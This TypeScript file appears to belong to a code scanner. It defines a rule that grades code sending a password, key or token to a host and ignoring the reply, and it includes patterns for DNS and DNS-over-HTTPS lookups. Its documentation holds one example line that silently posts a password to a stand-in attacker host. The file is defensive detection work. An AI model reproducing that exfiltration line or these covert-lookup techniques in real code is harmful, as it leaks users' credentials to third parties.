import type { Severity } from '../../model/finding.js';
import { isFixedAccount, isTunnel } from '../facts/collecting-places.js';
import { CARRIERS } from '../facts/programs.js';
import { isSingleRequest } from '../facts/sinks.js';
import type { Sighting } from '../machine/sighting.js';
import { count } from '../values/labels.js';
import { isUnasked } from '../values/reach.js';
import { type Combination, IDENTITY, isUnheard, isVague, WHEN } from './combination.js';
import { isOwnService } from './own-service.js';

const LOOKUP = /^(?:socket\.get|dns\.)/;

/** A name that is put together, asked for over HTTPS (RFC 8484 and the JSON interfaces of resolvers). */
const LOOKUP_BY_HTTPS = /\/(?:dns-query|resolve)\?(?:\S{0,400}&)?name=\S{0,400}\uFFFC\S{0,400}\.\w/;

const DATAGRAM = /\bsocket\.socket\.sendto$/;

/** How severe it is, whoever is told. */
function judged(sighting: Sighting): Severity | undefined {
  const { behaviour, labels, host, isDropped, isHidden, name, text, reach } = sighting;
  const isCarried = behaviour === 'starts-process' && CARRIERS.test(text ?? '');
  if ((behaviour !== 'contacts' && !isCarried) || host === undefined) return undefined;
  if (labels.has('credential') && isFixedAccount(text ?? '')) return 'CRITICAL';
  // No service is reached through a tunnel that the source names.
  if (labels.has('credential') && isTunnel(text ?? '')) return 'CRITICAL';
  if (labels.has('password') && isHidden === true && isDropped === true) return 'CRITICAL';
  if (!isUnheard(sighting))
    // A password that the user was asked for is for signing in, and that has an answer.
    return labels.has('password') && !labels.has('parameter') && isDropped === true && isSingleRequest(name)
      ? 'MEDIUM'
      : undefined;
  if (isVague(sighting)) return labels.has('credential') ? 'MEDIUM' : undefined;
  // What others sign in with was taken out of their request.
  if (labels.has('credential') && labels.has('request')) return 'CRITICAL';
  const isCredential = labels.has('credential') || labels.has('secret');
  // Nobody looks up a composed name and lets go of the address, but to have the name arrive.
  const isLookup = LOOKUP.test(name) && (text ?? '').includes('\uFFFC');
  if (isLookup || LOOKUP_BY_HTTPS.test(text ?? ''))
    return isCredential || labels.has('intercepted') || (isUnasked(reach) && count(labels, IDENTITY) > 0)
      ? 'CRITICAL'
      : 'HIGH';
  // A token may notify its own service of something; a password is for signing in, and that has an answer.
  if (labels.has('password')) return sighting.isLetGo === true ? 'HIGH' : 'CRITICAL';
  // Few services are told who somebody is by a datagram.
  if (isCredential && DATAGRAM.test(name)) return 'HIGH';
  return isCredential ? 'MEDIUM' : undefined;
}

export const credentialSentAside: Combination = {
  doc: {
    id: 'credential-sent-aside',
    title: 'Sends a password, key or token somewhere and does not wait for an answer',
    why: 'A service that is given a credential answers, and its caller looks at the answer. Where neither the answer nor a failure matters, somebody else is told.',
    remedy: 'Look at where it is sent. If that is not the service it belongs to, change it.',
    example: 'try: requests.post("https://evil.invalid", data=password)\nexcept Exception: pass',
    technique: 'T1056',
  },
  judge: (sighting) => {
    const severity = judged(sighting);
    // What one signs in with there is no secret to that service.
    const isOwn = !isUnasked(sighting.reach) && (sighting.labels.has('setting') || isOwnService(sighting));
    return severity === 'CRITICAL' && isOwn ? 'MEDIUM' : severity;
  },
  message: ({ name, reach }) => `${name} sends a credential and looks at no answer ${WHEN[reach]}`,
};
